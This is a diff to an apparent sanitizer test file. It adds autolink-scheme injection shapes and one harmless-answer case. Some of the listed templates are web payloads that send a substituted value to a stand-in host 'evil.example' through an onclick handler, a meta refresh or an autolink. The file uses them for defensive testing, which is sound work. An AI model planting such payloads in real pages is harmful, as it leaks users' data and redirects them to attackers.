@@ -114,6 +114,15 @@ export const urlShapes: readonly string[] = [
   "<b onclick=\"location='//evil.example/ $v'\">x</b>",
   "<iframe srcdoc=\"<img src='$v'>\">",
   "<meta http-equiv=refresh content='0;url=//evil.example/ $v'>",
+  // The scheme of an autolink.
+  "<$v:>",
+  "<$v:x>",
+  "<$v://evil.example/>",
+  "<${v}a:x>",
+  "<${v}+a-1.b:x>",
+  "a<$v:x> b",
+  "> - <$v:x>",
+  "${less}$v:x>",
   // A footnote's name becomes part of its link.
   "x[^$v]\n\n[^$v]: y",
   // Constructs that other values open.
@@ -160,6 +169,7 @@ export const harmlessAnswers: readonly (readonly [answer: string, expected: stri
     '<code>a "b"</code> <img src="/a.png" alt="b" /> <a href="/x">VALUE</a> VALUE',
   ],
   ["claim[^1] $v\n\n[^1]: note\n\n$v", "claim[^1] VALUE\n\n[^1]: note\n\nVALUE"],
+  ["<$v> a<$v, b", "<VALUE> a<VALUE, b"],
   ["1 < 2 and $v > 1, a <= $v", "1 < 2 and VALUE > 1, a <= VALUE"],
   ["metadata:$v hotel:$v", "metadata:VALUE hotel:VALUE"],
   ["and/or/$v 1/$v 50:$v", "and/or/VALUE 1/VALUE 50:VALUE"],
